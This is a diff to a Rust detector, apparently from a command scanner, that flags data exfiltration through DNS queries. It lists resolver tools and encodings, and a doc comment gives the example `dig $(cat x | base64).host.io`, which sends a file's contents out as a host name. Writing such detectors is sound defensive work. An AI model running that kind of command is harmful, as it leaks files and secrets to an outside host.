@@ -1,19 +1,18 @@
-//! Data that leaves as the name of a host somebody is asked about.
+//! Data exfiltrated in DNS queries.
 //!
 //! The line is in lower case.
 
-use super::line::Line;
 use super::parts::parts;
 
-/// What asks a name server.
+/// Commands that query a name server.
 const RESOLVERS: &[&str] = &["dig", "nslookup", "drill", "host", "resolve-dnsname"];
-/// What data is made of that is asked for as the name of a host, beside variables.
+/// Encodings of exfiltrated data in a host name, besides variables.
 const CARRIED: &[&str] = &["base64", "base32", "xxd", "hexdump", "od ", "cat ", "printenv", "whoami"];
-/// How many substitutions of a line are looked into.
+/// The most substitutions of a line that are checked.
 const MAX_PLACES: usize = 16;
 
 /// `dig $(cat x | base64).host.io`: data as the name of a host.
-pub(super) fn asked(line: Line<'_>) -> Option<usize> {
+pub(super) fn asked(line: &str) -> Option<usize> {
     let at = parts!(RESOLVERS).first_word(line)?;
     let rest = line.get(at..)?;
     rest.match_indices("$(").take(MAX_PLACES).find_map(|(open, _)| {
